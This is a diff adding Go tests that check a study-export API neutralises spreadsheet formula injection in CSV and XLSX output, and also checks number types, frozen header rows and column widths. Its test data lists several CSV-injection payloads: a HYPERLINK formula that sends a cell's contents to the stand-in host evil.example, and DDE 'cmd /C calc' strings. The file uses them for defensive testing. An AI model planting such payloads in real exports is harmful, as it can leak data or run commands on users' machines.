@@ -1,0 +1,181 @@
+package api_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+)
+
+// formulaNames are BOM line names that a spreadsheet would run as a formula
+// if a file wrote them as they are (OWASP "CSV injection"), with the CSV
+// cell that neutralises each; "-1.5" is a number, not a formula, and stays.
+var formulaNames = [][2]string{
+	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+	{"-2+3", "'-2+3"},
+	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+	{"\tTAB", "'\tTAB"},
+	{"-1.5", "-1.5"},
+}
+
+// formulaStudy is the demo PV module with its first BOM leaves renamed to
+// formulaNames; it returns the study and the path of each renamed leaf.
+func formulaStudy(tb testing.TB) ([]byte, []string) {
+	tb.Helper()
+	var doc map[string]any
+	if err := json.Unmarshal(pvStudy(tb, "GEC-U-F"), &doc); err != nil {
+		tb.Fatal(err)
+	}
+	var paths []string
+	var walk func(lines []any, prefix string)
+	walk = func(lines []any, prefix string) {
+		for i, l := range lines {
+			line := l.(map[string]any)
+			path := prefix + "[" + strconv.Itoa(i) + "]"
+			if children, ok := line["children"].([]any); ok && len(children) > 0 {
+				walk(children, path+".children")
+			} else if len(paths) < len(formulaNames) {
+				line["name"] = formulaNames[len(paths)][0]
+				paths = append(paths, path)
+			}
+		}
+	}
+	walk(doc["bom"].([]any), "bom")
+	if len(paths) < len(formulaNames) {
+		tb.Fatalf("the demo study has %d BOM leaves, want %d", len(paths), len(formulaNames))
+	}
+	b, err := json.Marshal(doc)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return b, paths
+}
+
+func TestServer_ResultCSVForPeople(t *testing.T) {
+	// Ensure result.csv opens right in Chinese Excel (UTF-8 byte-order
+	// mark) and runs no formula: text cells that begin with = + - @ or a
+	// tab are prefixed with an apostrophe, numbers (negative ones too) are
+	// left as numbers.
+	_, fs := MustOpenSeededFactors(t)
+	st := newStack(t, fs)
+	doc, paths := formulaStudy(t)
+	study := MustData[studyData](t, st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: "application/json", body: doc}), 201)
+	body := st.do(t, request{method: "GET", target: "/v1/studies/" + study.ID + "/result.csv", as: asMaker}).Body.String()
+	if !strings.HasPrefix(body, "\ufeffpath,") {
+		t.Fatalf("result.csv starts %q, want a UTF-8 byte-order mark then the header", body[:min(len(body), 12)])
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]string{} // path → description
+	for _, row := range rows[1:] {
+		names[row[0]] = row[1]
+		for _, j := range []int{3, 7, 9, 10} { // quantity, factor_value, kgco2e, share_pct
+			if row[j] != "" {
+				if _, err := strconv.ParseFloat(row[j], 64); err != nil {
+					t.Errorf("%s: number column %s = %q, not a number", row[0], rows[0][j], row[j])
+				}
+			}
+		}
+	}
+	for i, n := range formulaNames {
+		path := paths[i]
+		got, ok := names[path]
+		if !ok {
+			t.Fatalf("no row for %s", path)
+		}
+		if got != n[1] {
+			t.Errorf("%s description = %q, want %q", path, got, n[1])
+		}
+	}
+}
+
+func TestServer_ResultXLSXForPeople(t *testing.T) {
+	// Ensure result.xlsx has numbers as numbers, empty number cells (an
+	// exempted item has no factor value or share) as no cell at all rather
+	// than '' text, formula-like names as text, columns wide enough to read
+	// and the header row frozen.
+	_, fs := MustOpenSeededFactors(t)
+	st := newStack(t, fs)
+	doc, _ := formulaStudy(t)
+	study := MustData[studyData](t, st.do(t, request{method: "POST", target: "/v1/studies", as: asMaker, contentType: "application/json", body: doc}), 201)
+	rec := st.do(t, request{method: "GET", target: "/v1/studies/" + study.ID + "/result.xlsx", as: asMaker})
+	if rec.Code != 200 {
+		t.Fatalf("status %d: %s", rec.Code, rec.Body)
+	}
+	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := f.GetRows("Lines", excelize.Options{RawCellValue: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	isText := func(cell string) bool {
+		typ, err := f.GetCellType("Lines", cell)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString
+	}
+	exempted := 0
+	for i, row := range rows[1:] {
+		r := strconv.Itoa(i + 2)
+		section := row[len(row)-1]
+		for _, col := range []string{"D", "H", "J", "K"} { // quantity, factor_value, kgco2e, share_pct
+			cell := col + r
+			v, err := f.GetCellValue("Lines", cell, excelize.Options{RawCellValue: true})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if isText(cell) {
+				t.Errorf("%s (%s row) is text %q, want a number or no cell", cell, section, v)
+			} else if v != "" {
+				if _, err := strconv.ParseFloat(v, 64); err != nil {
+					t.Errorf("%s = %q, not a number", cell, v)
+				}
+			}
+		}
+		if section == "exempted" {
+			exempted++
+			for _, cell := range []string{"H" + r, "K" + r} {
+				if v, _ := f.GetCellValue("Lines", cell); v != "" || isText(cell) {
+					t.Errorf("exempted row %s: %s = %q, want no cell", r, cell, v)
+				}
+			}
+		}
+		if strings.HasPrefix(row[1], "=") {
+			if formula, _ := f.GetCellFormula("Lines", "B"+r); formula != "" || !isText("B"+r) || row[1] != formulaNames[0][0] {
+				t.Errorf("B%s = %q (formula %q), want the text %q", r, row[1], formula, formulaNames[0][0])
+			}
+		}
+	}
+	if exempted == 0 {
+		t.Fatal("the demo study has no exempted row to check")
+	}
+	for _, sheet := range []string{"Stages", "Lines", "Factors"} {
+		panes, err := f.GetPanes(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !panes.Freeze || panes.YSplit != 1 {
+			t.Errorf("%s: panes %+v, want the header row frozen", sheet, panes)
+		}
+	}
+	for col, min := range map[string]float64{"A": 10, "B": 20} { // path, description
+		w, err := f.GetColWidth("Lines", col)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if w < min || w > 60 {
+			t.Errorf("Lines column %s width %v, want %v to 60", col, w, min)
+		}
+	}
+}
